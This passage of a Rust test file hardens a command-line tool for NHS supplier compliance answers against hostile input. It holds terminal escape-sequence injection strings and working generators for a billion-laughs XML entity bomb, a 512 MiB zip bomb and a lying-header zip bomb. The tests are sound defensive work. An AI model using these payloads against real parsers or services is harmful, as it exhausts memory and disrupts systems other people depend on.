        serde_json::json!({"item": "nhs-services", "value": ["UEC Appointment Booking: Consumer"]}),
        serde_json::json!({"item": "medical-device", "value": "No"}),
        serde_json::json!({"item": "UEC-CON-001", "value": "No", "comment": FORMULAS[2]}),
    ];
    for (i, item) in items.iter().enumerate() {
        rows.push(
            serde_json::json!({"item": item, "value": FORMULAS[i], "comment": FORMULAS[i + 3]}),
        );
    }
    let file = answers_file(&dir, "formulas.json", Json::Array(rows));
    scal(["apply", &p(&draft), &p(&file)]).ok();
    let out = dir.path("out");
    scal(["export", &p(&draft), "--out", &p(&out), "--xlsx"]).ok();

    let parts = zip_parts(&out.join("acme.xlsx"));
    let mut text = String::new();
    for (name, bytes) in &parts {
        let xml = String::from_utf8_lossy(bytes);
        if name.starts_with("xl/worksheets/") {
            assert!(
                !xml.contains("<f>") && !xml.contains("<f "),
                "{name} holds a formula"
            );
        }
        if name.starts_with("xl/") && name.ends_with(".xml") {
            text.push_str(&xml);
        }
    }
    assert!(
        !parts.iter().any(|(n, _)| n.contains("externalLink")),
        "the workbook links to another workbook"
    );
    // Each payload is in the workbook, as text (XML-escaped, leading tab kept or trimmed).
    let escape = |s: &str| {
        s.replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
    };
    for payload in FORMULAS {
        let trimmed = payload.trim();
        assert!(
            text.contains(&escape(trimmed)) || text.contains(trimmed),
            "{payload:?} is not in the workbook as text"
        );
    }
}

#[test]
fn control_characters_are_kept_as_data_but_never_reach_the_terminal() {
    let dir = Dir::new();
    let draft = dir.draft("acme.scal");
    let nasty = "Acme\u{1b}]0;owned\u{7}\u{1b}[2J\u{0}\u{9b}31m\r\u{8}Ltd";
    let file = answers_file(
        &dir,
        "control.json",
        serde_json::json!([{"item": "supplier-name", "value": nasty, "comment": "note\u{1b}[8mhidden"}]),
    );
    scal(["apply", &p(&draft), &p(&file)]).ok();

    // As data, the text is kept exactly (JSON escapes it).
    let show = show_json(&draft);
    assert_eq!(item(&show, "supplier-name")["value"], nasty);
    // On a terminal, every control character but line feed and tab is shown, not obeyed.
    let raw = |s: &str| s.chars().any(|c| c.is_control() && c != '\n' && c != '\t');
    let text = scal(["show", &p(&draft)]);
    assert!(!raw(text.ok()), "scal show sent control characters");
    assert!(text.stdout.contains("Acme\\u{1B}]0;owned\\u{7}"));
    let bad = answers_file(
        &dir,
        "bad.json",
        serde_json::json!([{"item": "hscn-connection", "value": "Y\u{1b}[2Jes"}]),
    );
    let refused = scal(["apply", &p(&draft), &p(&bad)]);
    let line = refused.fails_with(&["hscn-connection"]);
    assert!(
        !raw(line),
        "an error line sent control characters: {line:?}"
    );
    scal(["answer", &p(&draft), "no\u{1b}[2Jitem", "x"]).fails_with(&["no\\u{1B}[2Jitem"]);

    // The exports hold the text too (workbook XML cannot hold raw control characters).
    let out = dir.path("out");
    scal(["export", &p(&draft), "--out", &p(&out)]).ok();
    check_workbook_xml_is_clean(&out.join("acme.xlsx"));
}

/// XML 1.0 allows no C0 control character but tab, line feed and carriage return (Excel calls
/// a file holding one corrupt).
fn check_workbook_xml_is_clean(path: &Path) {
    for (name, bytes) in zip_parts(path) {
        let xml = String::from_utf8(bytes).unwrap_or_default();
        assert!(
            !xml.chars()
                .any(|c| c < ' ' && !matches!(c, '\t' | '\n' | '\r')),
            "{name} holds a raw control character"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Large and deep

#[test]
fn a_1_mib_answer_is_taken_and_exported_and_one_character_more_is_refused() {
    let dir = Dir::new();
    let draft = dir.draft("acme.scal");
    let max = 1_048_576;
    // Long text with multi-byte characters: the limit counts characters, not bytes.
    let long: String = "Welsh: Gwasanaeth Iechyd Gwladol — "
        .chars()
        .cycle()
        .take(max)
        .collect();
    let file = answers_file(
        &dir,
        "long.json",
        serde_json::json!([
            {"item": "medical-device", "value": "No"},
            {"item": "medical-device-justification", "value": long, "comment": long}
        ]),
    );
    scal_bounded(&strings(&["apply", &p(&draft), &p(&file)])).ok();
    let show = show_json(&draft);
    let stored = item(&show, "medical-device-justification")["value"]
        .as_str()
        .unwrap()
        .to_string();
    assert_eq!(stored.chars().count(), long.trim().chars().count());

    let out = dir.path("out");
    let export = scal_bounded(&strings(&["export", &p(&draft), "--out", &p(&out)]));
    // Excel holds 32,767 characters in a cell: the workbook says where it cut.
    assert!(
        export.ok().contains("warning:") && export.stdout.contains("medical-device-justification"),
        "no warning for the cut text:\n{}",
        export.stdout
    );
    scal(["verify-pack", &p(&out.join("acme-pack.zip"))]).ok();

    let too_long = format!("{long}x");
    let file = answers_file(
        &dir,
        "too-long.json",
        serde_json::json!([{"item": "medical-device-justification", "value": too_long}]),
    );
    scal_bounded(&strings(&["apply", &p(&draft), &p(&file)]))
        .fails_with(&["medical-device-justification", "1048576"]);
    let comment_too_long = answers_file(
        &dir,
        "comment-too-long.json",
        serde_json::json!([{"item": "supplier-name", "comment": too_long}]),
    );
    scal_bounded(&strings(&["apply", &p(&draft), &p(&comment_too_long)]))
        .fails_with(&["supplier-name", "1048576"]);
}

/// A template with `n` requirement rows in one service section.
fn huge_template(n: usize) -> String {
    let items: Vec<Json> = (0..n)
        .map(|i| {
            serde_json::json!({
                "id": format!("R-{i:06}"), "label": format!("Requirement {i}"), "type": "requirement",
                "level": if i % 3 == 0 { "SHOULD" } else { "MUST" },
                "text": format!("The system MUST handle case {i} as the standard describes."),
            })
        })
        .collect();
    serde_json::json!({
        "id": "huge", "version": "1.0.0", "title": "Huge", "publisher": "hostile",
        "sections": [{"id": "svc", "title": "Service", "kind": "service", "has_status": true, "items": items}]
    })
    .to_string()
}

#[test]
fn a_100000_item_template_is_taken_and_checked_in_bounded_memory() {
    let dir = Dir::new();
    let template = dir.file("huge.json", huge_template(100_000));
    let draft = dir.path("huge.scal");
    scal_bounded(&strings(&["new", &p(&draft), "--template", &p(&template)]))
        .ok()
        .contains("100000 items")
        .then_some(())
        .expect("new reports the item count");
    scal_bounded(&strings(&["answer", &p(&draft), "R-099999", "Yes"])).ok();
    let check = scal_bounded(&strings(&["check", &p(&draft), "--json", "--today", TODAY]));
    assert_eq!(check.code, 1, "{}", check.stderr);
    let report: Json = serde_json::from_str(&check.stdout).unwrap();
    assert_eq!(report["complete"], false);
}

#[test]
fn deeply_nested_json_is_refused_with_one_line() {
    let dir = Dir::new();
    let deep = |inner: &str| format!("{}{inner}{}", "[".repeat(200_000), "]".repeat(200_000));
    let template = dir.file("deep-template.json", deep(""));
    scal(["new", &p(&dir.path("x.scal")), "--template", &p(&template)])
        .fails_with(&["deep-template.json"]);
    let nested_in_template = dir.file(
        "deep-inside.json",
        format!(
            r#"{{"id": "x", "version": "1.0.0", "title": "T", "publisher": "P", "sections": {}}}"#,
            deep("")
        ),
    );
    scal([
        "new",
        &p(&dir.path("y.scal")),
        "--template",
        &p(&nested_in_template),
    ])
    .fails_with(&["deep-inside.json"]);
    assert!(!dir.path("x.scal").exists() && !dir.path("y.scal").exists());

    let draft = dir.draft("acme.scal");
    let before = show_json(&draft);
    let answers = dir.file(
        "deep-answers.json",
        format!(
            r#"{{"answers": [{{"item": "supplier-name", "value": {}}}]}}"#,
            deep("\"x\"")
        ),
    );
    scal(["apply", &p(&draft), &p(&answers)]).fails_with(&["deep-answers.json", "JSON"]);
    let objects = dir.file(
        "deep-objects.json",
        format!("{}{}", "{\"a\":".repeat(100_000), "}".repeat(100_000)),
    );
    scal(["apply", &p(&draft), &p(&objects)]).fails_with(&["deep-objects.json"]);
    assert_eq!(show_json(&draft), before);
}

// ---------------------------------------------------------------------------------------------
// Workbooks built to explode, given to `scal import-template`

/// The parts every workbook needs around its sheet: content types, relationships, the
/// workbook naming one sheet "NHS Login" (a service tab's name).
const PLUMBING: [(&str, &[u8]); 4] = [
    (
        "[Content_Types].xml",
        br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>"#,
    ),
    (
        "_rels/.rels",
        br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#,
    ),
    (
        "xl/workbook.xml",
        br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="NHS Login" sheetId="1" r:id="rId1"/></sheets></workbook>"#,
    ),
    (
        "xl/_rels/workbook.xml.rels",
        br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>"#,
    ),
];

/// A minimal xlsx whose sheet is `sheet_xml`; `shared` is the shared-strings part.
fn xlsx_with(path: &Path, sheet_xml: &[u8], shared: &[u8]) {
    let mut parts = PLUMBING.to_vec();
    parts.push(("xl/worksheets/sheet1.xml", sheet_xml));
    parts.push(("xl/sharedStrings.xml", shared));
    write_zip(path, &parts);
}

/// Runs `scal import-template BOOK --out ...` under the memory cap and expects a refusal
/// naming the book; prints the refusal, so the run shows why it was refused.
fn import_refused(dir: &Dir, book: &Path) {
    let name = book.file_name().unwrap().to_string_lossy().into_owned();
    let run = scal_bounded(&strings(&[
        "import-template",
        &p(book),
        "--out",
        &p(&dir.path(&format!("{name}.json"))),
    ]));
    let line = run.fails_with(&[&name]);
    eprintln!("{line}");
    assert!(!dir.path(&format!("{name}.json")).exists());
}

/// The billion laughs: ten levels of entities, each ten of the one below (10^9 "lol"s).
fn billion_laughs() -> Vec<u8> {
    let mut dtd = String::from("<!DOCTYPE lolz [<!ENTITY lol \"lol\">");
    for level in 1..=9 {
        let below = if level == 1 {
            "lol".to_string()
        } else {
            format!("lol{}", level - 1)
        };
        dtd.push_str(&format!(
            "<!ENTITY lol{level} \"{}\">",
            format!("&{below};").repeat(10)
        ));
    }
    dtd.push_str("]>");
    format!(
        r#"<?xml version="1.0" encoding="UTF-8"?>{dtd}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>"#
    )
    .into_bytes()
}

const ONE_CELL_SHEET: &[u8] = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>"#;

#[test]
fn a_billion_laughs_workbook_is_refused_in_bounded_memory() {
    let dir = Dir::new();
    let book = dir.path("laughs.xlsx");
    xlsx_with(&book, ONE_CELL_SHEET, &billion_laughs());
    import_refused(&dir, &book);
    // The same entities in the sheet itself.
    let sheet = String::from_utf8(billion_laughs())
        .unwrap()
        .replace("<sst", "<worksheet")
        .replace("<si><t>&lol9;</t></si></sst>", "<sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>");
    let book = dir.path("laughs-in-sheet.xlsx");
    xlsx_with(&book, sheet.as_bytes(), b"<sst/>");
    import_refused(&dir, &book);
}

#[test]
fn a_zip_bomb_workbook_is_refused_in_bounded_memory() {
    let dir = Dir::new();
    let book = dir.path("bomb.xlsx");
    // A whole workbook whose sheet inflates to 512 MiB of XML whitespace from under a MiB.
    {
        let mut zip = zip::ZipWriter::new(std::fs::File::create(&book).unwrap());
        let deflate = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        for (name, body) in PLUMBING {
            zip.start_file(name, deflate).unwrap();
            zip.write_all(body).unwrap();
        }
        zip.start_file("xl/sharedStrings.xml", deflate).unwrap();
        zip.write_all(
            b"<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"/>",
        )
        .unwrap();
        zip.start_file("xl/worksheets/sheet1.xml", deflate.large_file(true))
            .unwrap();
        zip.write_all(br#"<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>"#).unwrap();
        let block = vec![b' '; 1 << 20];
        for _ in 0..512 {
            zip.write_all(&block).unwrap();
        }
        zip.write_all(b"</sheetData></worksheet>").unwrap();
        zip.finish().unwrap();
    }
    assert!(std::fs::metadata(&book).unwrap().len() < 16 << 20);
    import_refused(&dir, &book);

    // 2.5 GiB (more than the memory cap), with headers that lie: they say the sheet is 1,000
    // bytes, so only a reader that stops at the declared size (or its own bound) survives.
    let liar = dir.path("lying-bomb.xlsx");
    {
        let mut zip = zip::ZipWriter::new(std::fs::File::create(&liar).unwrap());
        let deflate = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        for (name, body) in PLUMBING {
            zip.start_file(name, deflate).unwrap();
            zip.write_all(body).unwrap();
        }
        zip.start_file("xl/sharedStrings.xml", deflate).unwrap();
        zip.write_all(b"<sst/>").unwrap();
        zip.start_file("xl/worksheets/sheet1.xml", deflate).unwrap();
        zip.write_all(b"<worksheet><sheetData>").unwrap();
        let block = vec![b' '; 1 << 20];
        for _ in 0..2560 {
            zip.write_all(&block).unwrap();
        }
        zip.finish().unwrap();
    }
    let mut bytes = std::fs::read(&liar).unwrap();
    let name = b"xl/worksheets/sheet1.xml";
    let mut patched = 0;
    for at in 0..bytes.len().saturating_sub(50) {
        let sig = u32::from_le_bytes(bytes[at..at + 4].try_into().unwrap());
        // Local header: size at 22, name length at 26, name at 30. Central: 24, 28, 46.
        let (size_at, len_at, name_at) = match sig {
            0x0403_4b50 => (22, 26, 30),
            0x0201_4b50 => (24, 28, 46),
            _ => continue,
        };
        let len = u16::from_le_bytes([bytes[at + len_at], bytes[at + len_at + 1]]) as usize;
        if bytes.get(at + name_at..at + name_at + len) == Some(&name[..]) {
            bytes[at + size_at..at + size_at + 4].copy_from_slice(&1000u32.to_le_bytes());
            patched += 1;
        }
    }
    assert_eq!(patched, 2, "both headers of the sheet were found");
    scal_store::fsutil::write_atomic(&liar, &bytes).unwrap();
    import_refused(&dir, &liar);
}

/// Random bytes named .xlsx, and a real zip of random parts: refused with one line.
#[test]
fn random_bytes_as_a_workbook_are_refused() {
    let dir = Dir::new();
    let seed = super::faults::seed("random workbook");
    let mut rng = Rng(seed);
    let junk: Vec<u8> = (0..50_000).map(|_| rng.next() as u8).collect();
    let book = dir.file("junk.xlsx", &junk);
    import_refused(&dir, &book);
    let parts = dir.path("parts.xlsx");
    write_zip(
        &parts,
        &[
            ("xl/workbook.xml", &junk[..1000]),
            ("[Content_Types].xml", &junk[1000..2000]),
        ],
    );
    import_refused(&dir, &parts);
}
